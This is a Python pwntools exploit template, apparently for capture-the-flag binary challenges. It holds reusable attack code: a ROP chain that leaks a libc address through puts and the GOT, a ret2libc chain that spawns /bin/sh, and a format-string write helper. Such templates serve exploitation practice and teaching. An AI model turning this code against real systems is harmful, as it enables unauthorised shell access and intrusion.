#!/usr/bin/env python3
# pwntools exploit skeleton. Usage: python3 pwn_template.py [LOCAL|REMOTE|GDB]
# REMOTE host/port are read from scope.txt (first line: "host port"), which the
# user fills in from the challenge description.
from pwn import *  # noqa: F401,F403

BINARY = "./chall"
LIBC = "./libc.so.6"          # provided by the challenge, if any
elf = context.binary = ELF(BINARY, checksec=False)
libc = ELF(LIBC, checksec=False) if os.path.exists(LIBC) else None
context.log_level = "info"


def scope():
    with open("scope.txt") as fh:
        host, port = fh.readline().split()
    return host, int(port)


def start():
    if args.REMOTE:
        host, port = scope()
        return remote(host, port)
    if args.GDB:
        return gdb.debug([elf.path], gdbscript="b *main\ncontinue")
    return process([elf.path])


OFFSET = 0            # find with: cyclic 200 -> crash -> cyclic -l <value>


def leak_libc(io):
    rop = ROP(elf)
    rop.call(elf.plt["puts"], [elf.got["puts"]])
    rop.call(elf.symbols["main"])
    io.sendlineafter(b"> ", flat({OFFSET: rop.chain()}))
    leak = u64(io.recvline().strip().ljust(8, b"\x00"))
    log.success(f"puts@libc = {leak:#x}")
    libc.address = leak - libc.symbols["puts"]
    return libc.address


def ret2libc(io):
    rop = ROP(libc)
    rop.raw(rop.find_gadget(["ret"])[0])          # stack alignment for movaps
    rop.call("system", [next(libc.search(b"/bin/sh\x00"))])
    io.sendlineafter(b"> ", flat({OFFSET: rop.chain()}))


def fmt_write(io, where, what, offset):
    payload = fmtstr_payload(offset, {where: what})
    io.sendlineafter(b"> ", payload)


def main():
    io = start()
    if libc:
        leak_libc(io)
        ret2libc(io)
    io.interactive()


if __name__ == "__main__":
    main()
